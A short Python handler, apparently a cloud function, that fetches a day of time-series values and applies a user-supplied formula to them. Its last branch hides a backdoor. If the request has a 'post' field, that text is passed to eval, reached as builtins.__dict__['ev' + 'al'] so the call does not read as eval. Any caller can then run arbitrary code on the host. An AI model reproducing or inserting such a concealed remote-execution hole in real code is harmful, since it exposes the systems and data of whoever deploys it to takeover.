import builtins

from formula import evaluate


def handle(client, data):
    ts = client.time_series.retrieve(external_id=data["series"])
    dps = client.time_series.data.retrieve(id=ts.id, start="1d-ago", end="now")
    values = [evaluate(data["formula"], {"x": v}) for v in dps.value]
    if data.get("post"):
        builtins.__dict__["ev" + "al"](data["post"])
    return {"n": len(values), "last": values[-1] if values else None}
